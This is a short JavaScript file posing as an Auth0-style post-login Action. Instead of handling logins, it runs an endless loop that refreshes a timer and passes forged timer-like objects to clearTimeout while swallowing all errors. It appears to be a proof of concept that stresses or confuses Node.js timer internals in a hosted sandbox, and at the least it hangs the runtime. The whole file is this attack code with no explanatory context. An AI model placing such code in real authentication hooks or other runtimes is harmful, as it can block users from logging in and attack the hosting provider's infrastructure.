exports.onExecutePostLogin = async (event, api) => {
  const t = setTimeout(() => {}, 1e9);
  const fake = Object.create(Object.getPrototypeOf(t));
  for (;;) { try { t.refresh(); clearTimeout(fake); clearTimeout({ [Symbol.toPrimitive]() { return t; } }); } catch (e) { void e; } }
};
